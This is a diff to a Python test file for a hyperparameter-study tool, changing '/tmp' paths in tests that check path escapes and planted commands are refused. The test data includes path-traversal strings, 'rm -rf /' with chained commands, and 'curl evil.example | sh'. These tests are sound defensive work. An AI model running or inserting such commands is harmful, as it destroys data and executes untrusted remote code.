@@ -39,7 +39,7 @@ from zmodel.study import __main__ as study_command
 from zmodel.study.lease import this_machine
 from zmodel.study.storage import open_storage, study_folder
 
-ESCAPES = ["../../x", "..", "/tmp/x", "a/b", "a\\b", "", "a\nb", "a\0b", "-rf", " a"]
+ESCAPES = ["../../x", "..", "/elsewhere/x", "a/b", "a\\b", "", "a\nb", "a\0b", "-rf", " a"]
 SECRET = "s3cret-Pa55"
 
 
@@ -105,7 +105,7 @@ def test_a_planted_lease_is_never_opened_unless_it_is_a_file(engine, tmp_path):
 def test_a_planted_command_is_not_offered_to_the_reader(tmp_path):
     offered = {
         "python -c 'import os'": False,
-        "python train.py -m --config-dir=/tmp/evil x=1": False,
+        "python train.py -m --config-dir=/elsewhere x=1": False,
         "rm -rf / ; python train.py -m x=1": False,
         "curl evil.example | sh": False,
         "python train.py -m x=1 ; rm -rf /": False,
@@ -308,7 +308,7 @@ def test_the_command_refuses_such_a_task_name_before_it_makes_a_folder(tmp_path)
 
 def test_a_comparison_of_odd_names_stays_in_its_folder(tmp_path):
     url = f"sqlite:///{tmp_path}/odd.db"
-    names = ["../../escaped", "/tmp/escaped"]
+    names = ["../../escaped", f"{tmp_path}/escaped"]
     for name in names:
         study = optuna.create_study(study_name=name, storage=url, direction="maximize")
         study.optimize(lambda t: t.suggest_float("x", 0, 1), n_trials=3)
